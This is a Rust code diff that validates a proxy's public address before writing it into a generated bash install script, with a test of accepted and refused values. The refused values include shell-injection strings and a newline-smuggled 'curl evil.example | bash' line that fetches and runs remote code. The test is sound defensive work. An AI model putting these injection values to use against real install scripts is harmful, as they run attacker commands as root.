@@ -148,7 +148,26 @@ async fn binary(
         .unwrap_or_else(|_| unavailable("response build failed".into()))
 }
 
+/// `addr` when it can be written into the script as it is: `host[:port]` of letters, digits,
+/// `.`, `-`, `:`, `[` and `]` only, so that neither the comment line nor `PROXY="..."` can end
+/// early or expand anything (`$(...)`, backquotes, quotes, newlines).
+fn script_safe_addr(addr: &str) -> Option<&str> {
+    let ok = !addr.is_empty()
+        && addr.len() <= 300
+        && addr
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'[' | b']'));
+    ok.then_some(addr)
+}
+
 async fn script(State(st): State<Install>) -> Response {
+    let Some(addr) = script_safe_addr(&st.public_addr) else {
+        return unavailable(format!(
+            "the proxy's public address {:?} cannot be written into the install script: \
+             set proxy_service.public_addr to host:port (letters, digits, '.', '-', ':', '[', ']')",
+            st.public_addr
+        ));
+    };
     let mut sums = Vec::new();
     for name in BINARIES {
         let Some(path) = st.path_of(name) else {
@@ -203,8 +222,87 @@ done
 echo "Teleport v$VERSION installed into $DEST (teleport, tsh, tctl)."
 "#,
         version = api::VERSION,
-        addr = st.public_addr,
+        addr = addr,
         arch = std::env::consts::ARCH,
     );
     ([(header::CONTENT_TYPE, "text/x-shellscript")], text).into_response()
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+
+    async fn script_for(dir: &Path, public_addr: &str) -> (StatusCode, String) {
+        let st = Install {
+            dir: Some(dir.to_path_buf()),
+            public_addr: public_addr.to_string(),
+            sums: Arc::default(),
+        };
+        let resp = script(State(st)).await;
+        let status = resp.status();
+        let body = axum::body::to_bytes(resp.into_body(), 1 << 20)
+            .await
+            .unwrap();
+        (status, String::from_utf8(body.to_vec()).unwrap())
+    }
+
+    /// The public address comes from configuration (or the node name) and is written into a
+    /// script that is piped to bash as root: text that could end the line or the quotes, or
+    /// expand, is refused, never written.
+    #[tokio::test]
+    async fn the_script_holds_only_a_plain_public_address() {
+        let dir = std::env::temp_dir().join(format!(
+            "install-script-test-{}-{}",
+            std::process::id(),
+            hex::encode(rand_suffix())
+        ));
+        std::fs::create_dir_all(&dir).unwrap();
+        let _cleanup = RemoveOnDrop(dir.clone());
+        for b in BINARIES {
+            std::fs::write(dir.join(b), b.as_bytes()).unwrap();
+        }
+        for addr in [
+            "proxy.example.com:3080",
+            "127.0.0.1:443",
+            "[::1]:3080",
+            "proxy",
+        ] {
+            let (status, text) = script_for(&dir, addr).await;
+            assert_eq!(status, StatusCode::OK, "{addr}: {text}");
+            assert!(text.contains(&format!("PROXY=\"{addr}\"\n")), "{text}");
+        }
+        for addr in [
+            "proxy.example.com:3080\"; touch /tmp/pwned; \"",
+            "proxy.example.com$(touch /tmp/pwned)",
+            "proxy.example.com`id`",
+            "proxy.example.com\ncurl evil.example | bash",
+            "proxy.example.com:3080/x?y#z",
+            "user@proxy.example.com",
+            "proxy example.com",
+            "",
+        ] {
+            let (status, text) = script_for(&dir, addr).await;
+            assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE, "{addr:?}: {text}");
+            assert!(!text.contains("#!/usr/bin/env bash"), "{addr:?}: {text}");
+            assert!(text.contains("proxy_service.public_addr"), "{text}");
+        }
+    }
+
+    /// Removes the directory even when an assertion fails.
+    struct RemoveOnDrop(PathBuf);
+
+    impl Drop for RemoveOnDrop {
+        fn drop(&mut self) {
+            let _ = std::fs::remove_dir_all(&self.0);
+        }
+    }
+
+    fn rand_suffix() -> [u8; 8] {
+        let t = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map(|d| d.as_nanos())
+            .unwrap_or(0);
+        (t as u64).to_le_bytes()
+    }
 }
